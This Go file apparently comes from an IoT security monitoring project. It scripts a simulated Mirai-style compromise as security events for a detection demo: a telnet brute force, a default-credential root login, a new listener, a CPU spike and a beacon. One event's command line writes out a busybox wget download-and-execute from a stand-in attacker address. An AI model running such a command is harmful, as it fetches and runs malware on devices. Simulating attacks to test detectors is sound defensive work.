package sim

import (
	"fmt"
	"net/netip"
	"time"

	"github.com/vigil-iot/vigil/wire"
)

// Attacker is the address the scripted attack comes from (TEST-NET-3: it
// exists only inside the simulated events; nothing is sent to it).
var Attacker = netip.MustParseAddr("203.0.113.66")

// Step is one moment of the scripted attack: a report the compromised
// device's agent sends at a time, right when its events happen.
type Step struct {
	// At is the offset from the attack's start.
	At time.Duration
	// Say describes the step for the demo's output.
	Say string
	// Try is what the step attempts, for the demo's output when the
	// device is already isolated and the step cannot happen.
	Try string
	// Apply changes the device (a new listener, a CPU load) and returns
	// the security events to send, if any. It runs when the step is due.
	Apply func(d *Device, now time.Time) []wire.SecurityEvent
}

// MiraiScript is a Mirai-style compromise of one device: a telnet login
// brute force with default credentials, a successful root login, a
// download-and-execute through busybox wget, a new telnet listener on
// port 23, and a CPU spike as the bot starts scanning.
func MiraiScript() []Step {
	users := []string{"root", "admin", "root", "support", "root", "admin", "root", "user"}
	var steps []Step
	for i, u := range users {
		steps = append(steps, Step{
			At:  time.Duration(i) * 300 * time.Millisecond,
			Say: fmt.Sprintf("failed telnet login %d/%d as %q from %s", i+1, len(users), u, Attacker),
			Try: fmt.Sprintf("telnet login %d/%d as %q from %s", i+1, len(users), u, Attacker),
			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
				return []wire.SecurityEvent{loginEvent(now, u, "failure")}
			},
		})
	}
	n := time.Duration(len(users)) * 300 * time.Millisecond
	return append(steps,
		Step{At: n, Say: "successful telnet login as \"root\" (default credentials)",
			Try: "telnet login as \"root\" with the default password",
			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
				return []wire.SecurityEvent{loginEvent(now, "root", "success")}
			}},
		Step{At: n + 500*time.Millisecond, Say: "busybox wget downloads and runs a binary",
			Try: "download and run of a binary with busybox wget",
			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
				return []wire.SecurityEvent{
					processEvent(now, "/bin/busybox", "busybox wget http://"+Attacker.String()+"/bins/mirai.arm7 -O /tmp/.m"),
					processEvent(now.Add(50*time.Millisecond), "/tmp/.m", "/tmp/.m telnet.scan"),
				}
			}},
		Step{At: n + time.Second, Say: "a telnet listener appears on port 23",
			Try: "a telnet listener on port 23",
			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
				d.extra = append(d.extra, wire.Listener{Proto: "tcp", Addr: "0.0.0.0", Port: 23, Process: ".m"})
				return nil
			}},
		Step{At: n + 1500*time.Millisecond, Say: "CPU load jumps to ~97% (scanning)",
			Try: "scanning from the camera",
			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
				d.cpuOverride = 97
				return nil
			}},
	)
}

func loginEvent(t time.Time, user, outcome string) wire.SecurityEvent {
	return wire.SecurityEvent{
		Time: t.UTC(), Kind: "auth", Category: "authentication", Action: "login", Outcome: outcome,
		Severity: "low",
		Fields: wire.Fields{
			"user.name":    user,
			"source.ip":    Attacker.String(),
			"source.port":  "51234",
			"service.name": "telnetd",
		},
	}
}

func processEvent(t time.Time, exe, cmdline string) wire.SecurityEvent {
	return wire.SecurityEvent{
		Time: t.UTC(), Kind: "process", Category: "process", Action: "exec", Outcome: "success",
		Fields: wire.Fields{
			"process.executable":   exe,
			"process.command_line": cmdline,
			"user.name":            "root",
			"process.parent.name":  "telnetd",
		},
	}
}

// PLC is the controller the fleet's PLC gateways poll (Modbus/TCP); NewPeer
// is the host a compromised gateway beacons to. Both exist only inside the
// simulated events.
var (
	PLC     = netip.MustParseAddr("10.20.0.5")
	NewPeer = netip.MustParseAddr("10.20.66.6")
)

// BeaconPort is the port of the beacon: one no rule of the pack names
// (not a backdoor, mining or telnet port), so only a baseline of what the
// gateway talks to can tell it is new.
const BeaconPort = 8080

// ConnectEvent is a device's agent reporting an outbound TCP connection.
func ConnectEvent(t time.Time, src, dst netip.Addr, port uint16) wire.SecurityEvent {
	return wire.SecurityEvent{
		Time: t.UTC(), Kind: "network", Category: "network", Action: "connect", Outcome: "success",
		Fields: wire.Fields{
			"source.ip":         src.String(),
			"source.port":       "40100",
			"destination.ip":    dst.String(),
			"destination.port":  fmt.Sprint(port),
			"network.transport": "tcp",
		},
	}
}
